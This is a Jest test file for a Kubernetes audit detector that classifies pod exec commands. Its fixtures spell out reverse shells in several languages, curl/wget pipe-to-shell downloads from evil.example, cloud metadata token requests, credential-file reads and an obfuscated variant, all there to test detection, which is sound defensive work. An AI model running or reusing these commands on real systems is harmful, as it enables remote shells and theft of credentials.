import { normalizeAuditEvent } from '../../../../shared/kubernetes/normalizeAuditEvent';
import { type AuditEvent } from '../../../../shared/kubernetes/auditEvent';
import { auditEvent } from '../../../../shared/detection/exampleEvents';
import {
  categoriesOf,
  classifyCommandLine,
  CommandCategory,
  displayCommandLine,
  execCommandArgs,
  normalizeCommandLine,
} from '../../../../shared/detection/predicates/commandLines';
import { isPodStreamRequest } from '../../../../shared/detection/predicates/requests';

function eventOf(raw: Record<string, unknown>): AuditEvent {
  const normalized = normalizeAuditEvent(raw);
  if (!normalized.ok) throw new Error(normalized.detail);
  return normalized.event;
}

function categories(commandLine: string): string[] {
  return categoriesOf(classifyCommandLine(commandLine));
}

describe('commandLines', () => {
  describe('classifyCommandLine', () => {
    it.each([
      ['bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
      ['sh -c exec 5<>/dev/tcp/evil.example/443; cat <&5 | sh >&5'],
      ['nc -e /bin/sh 10.0.0.1 4444'],
      ['/usr/bin/ncat 10.0.0.1 4444 --exec /bin/bash'],
      ['ncat --sh-exec "bash -i" 10.0.0.1 4444'],
      ['nc 10.0.0.1 4444 | /bin/sh | nc 10.0.0.1 4445'],
      ['socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr'],
      ['sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f'],
      ['python3 -c import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'],
      ['perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'],
      ['ruby -rsocket -e c=TCPSocket.new("10.0.0.1",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'],
      ['php -r $sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
    ])('when the command is the reverse shell "%s", then it is classified as a reverse shell', (commandLine) => {
      expect(categories(commandLine)).toContain(CommandCategory.reverseShell);
    });

    it.each([
      ['sh -c curl -fsSL http://evil.example/x | sh'],
      ['sh -c wget -O- http://evil.example/x.sh | bash'],
      ['sh -c curl -s http://evil.example/p.py | python3 -'],
      ['bash -c curl http://evil.example/x | sudo /bin/bash'],
      ['sh -c curl -o /tmp/x http://evil.example/x && chmod +x /tmp/x && /tmp/x'],
      ['sh -c wget http://evil.example/m -O /dev/shm/m; chmod 755 /dev/shm/m; /dev/shm/m'],
      ['sh -c $(curl -fsSL http://evil.example/install.sh)'],
      ['bash -c source <(curl -s http://evil.example/env)'],
    ])('when the command is the download-and-run "%s", then it is classified as download and run', (commandLine) => {
      expect(categories(commandLine)).toContain(CommandCategory.downloadAndRun);
    });

    it.each([
      ['curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'],
      ['curl -H Metadata-Flavor: Google http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'],
      ['curl http://168.63.129.16/machine?comp=goalstate'],
      ['wget -qO- http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/'],
      ['curl http://2852039166/latest/meta-data/'],
    ])('when the command calls a metadata endpoint ("%s"), then it is classified as cloud metadata', (commandLine) => {
      expect(categories(commandLine)).toContain(CommandCategory.cloudMetadata);
    });

    it.each([
      ['cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
      ['ls /run/secrets/kubernetes.io/serviceaccount'],
      ['cat /var/run/secrets/azure/tokens/azure-identity-token'],
      ['cat /root/.kube/config'],
      ['cat /host/etc/kubernetes/azure.json'],
      ['cat /etc/shadow'],
      ['cat /home/app/.aws/credentials'],
      ['tar czf - /root/.ssh'],
      ['cat ~/.ssh/id_ed25519'],
    ])('when the command reads credentials ("%s"), then it is classified as credential access', (commandLine) => {
      expect(categories(commandLine)).toContain(CommandCategory.credentialAccess);
    });

    it.each([
      ['sh'],
      ['/bin/bash'],
      ['ls -la /app'],
      ['cat /var/run/secrets/kubernetes.io/serviceaccount/namespace'],
      ['cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt'],
      ['curl -s http://localhost:8080/healthz'],
      ['curl -fsSL https://example.com/file.tar.gz -o /tmp/file.tar.gz'],
      ['curl -s http://svc/report | sha256sum'],
      ['wget -qO- http://svc/data | jq .items'],
      ['nc -zv db.shop.svc 5432'],
      ['python3 -c import socket; print(socket.gethostname())'],
      ['ssh-keygen -l -f key.pub'],
      ['psql -h db -U app -c select 1'],
      ['env'],
      ['grep -r properly /srv/app'],
      ['rsync -e ssh -a /src host:/dst'],
      ['chmod 644 /tmp/config && curl http://svc/reload'],
    ])('when the command is the ordinary "%s", then nothing matches', (commandLine) => {
      expect(classifyCommandLine(commandLine)).toEqual([]);
    });

    it('when quotes, backslashes or $IFS hide the words, then the command is still classified', () => {
      expect(categories(`sh -c c''ur\\l\${IFS}http://evil.example/x|s""h`)).toEqual([CommandCategory.downloadAndRun]);
    });

    it('when a command shows several behaviours, then each category is reported once in a stable order', () => {
      const matches = classifyCommandLine('sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 10.0.0.1 4444 -e /bin/sh; curl http://169.254.169.254/');
      expect(categoriesOf(matches)).toEqual([CommandCategory.reverseShell, CommandCategory.cloudMetadata, CommandCategory.credentialAccess]);
      expect(matches.map((match) => match.indicator)).toContain('service-account token');
    });

    it('when the command line is huge, then classification still ends and looks only at the start', () => {
      const huge = `${'a '.repeat(20_000)}curl http://x | sh`;
      expect(normalizeCommandLine(huge).length).toBe(16_384);
      expect(classifyCommandLine(huge)).toEqual([]);
    });
  });

  describe('exec requests', () => {
    const execUri =
      '/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&command=curl%20http%3A%2F%2Fevil%2Fx%20%7C%20sh&container=web&stdin=true&stdout=true&tty=true';

    it('when an exec URI repeats command, then the arguments come back decoded and in order', () => {
      const event = eventOf(auditEvent({ verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1', requestURI: execUri }));
      expect(execCommandArgs(event)).toEqual(['sh', '-c', 'curl http://evil/x | sh']);
    });

    it('when arguments are displayed, then those with spaces are quoted', () => {
      expect(displayCommandLine(['sh', '-c', 'curl http://evil/x | sh'])).toBe('sh -c "curl http://evil/x | sh"');
      expect(displayCommandLine(['ls', ''])).toBe('ls ""');
    });

    it('when the request has no query string, then there are no arguments', () => {
      const event = eventOf(auditEvent({ verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1' }));
      expect(execCommandArgs(event)).toEqual([]);
    });

    it('when exec arrives over SPDY (create) or WebSocket (get), then both are pod stream requests', () => {
      for (const verb of ['create', 'get']) {
        const event = eventOf(auditEvent({ verb, resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1' }));
        expect(isPodStreamRequest(event, 'exec')).toBe(true);
        expect(isPodStreamRequest(event, 'attach')).toBe(false);
      }
    });

    it('when the request reads the pod itself or logs, then it is not a stream request for exec', () => {
      expect(isPodStreamRequest(eventOf(auditEvent({ verb: 'get', resource: 'pods', namespace: 'shop', name: 'web-1' })), 'exec')).toBe(false);
      expect(isPodStreamRequest(eventOf(auditEvent({ verb: 'get', resource: 'pods', subresource: 'log', namespace: 'shop', name: 'web-1' })), 'exec')).toBe(false);
    });
  });
});
